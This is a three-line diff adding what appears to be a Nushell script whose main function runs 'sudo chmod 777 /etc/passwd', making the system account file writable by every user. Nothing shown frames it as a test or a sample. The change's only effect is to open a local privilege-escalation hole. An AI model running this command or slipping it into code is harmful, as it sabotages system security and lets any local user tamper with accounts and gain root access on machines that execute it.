@@ -1,0 +1,3 @@
+def main [] {
+  sudo chmod 777 /etc/passwd
+}
